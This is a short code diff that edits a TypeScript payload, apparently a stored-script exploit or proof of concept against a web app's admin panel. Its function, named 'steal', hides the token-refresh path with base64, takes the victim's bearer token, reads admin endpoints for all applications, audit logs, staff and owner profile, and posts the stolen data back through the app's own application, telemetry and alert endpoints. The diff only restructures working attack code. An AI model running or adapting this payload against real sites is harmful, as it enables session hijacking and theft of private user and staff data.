@@ -89,12 +89,12 @@ const steal = async () => {
   const session = await textOf(atob('L2FwaS9yZWZyZXNo'), { method: 'POST' });
   const headers = { authorization: 'Bearer ' + (JSON.parse(session) as { accessToken: string }).accessToken };
   const wanted = ['/api/applications/all', '/api/panel/audit', '/api/panel/staff', '/api/profile/owner'];
-  for (const path of wanted) {
-    const read = await textOf(path, { headers });
+  const stolen = await Promise.all(wanted.map(async (path) => ({ path, read: await textOf(path, { headers }) })));
+  for (const { path, read } of stolen)
     setTimeout(() => { throw new Error('Stolen from ' + path + ': ' + read.slice(0, 1500)); });
+  for (const { read } of stolen)
     for (const drop of ['/api/applications/apply', '/api/telemetry', '/api/alerts/send-application-alert'])
       await textOf(drop, { method: 'POST', headers, body: read, keepalive: read.length < 9999 });
-  }
 };
 steal().catch((error: unknown) => console.error(error));
 `;
